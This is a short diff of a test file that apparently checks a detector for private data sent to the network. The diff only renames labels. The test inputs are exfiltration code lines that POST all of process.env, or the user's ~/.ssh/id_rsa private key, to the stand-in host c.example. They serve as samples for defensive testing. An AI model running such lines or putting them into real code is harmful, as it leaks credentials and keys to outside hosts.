@@ -118,11 +118,11 @@ describe('what is unknown or private elsewhere', () => {
   it.each<[string, string]>([
     [
       "fetch('https://c.example', { method: 'POST', body: JSON.stringify(process.env) })",
-      'private all variables of the environment -> network',
+      'private the whole environment -> network',
     ],
     [
       "const e = { ...process.env }; axios.post('https://c.example', { e })",
-      'private all variables of the environment -> network',
+      'private the whole environment -> network',
     ],
     [
       "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); fetch('https://c.example', { body: k })",
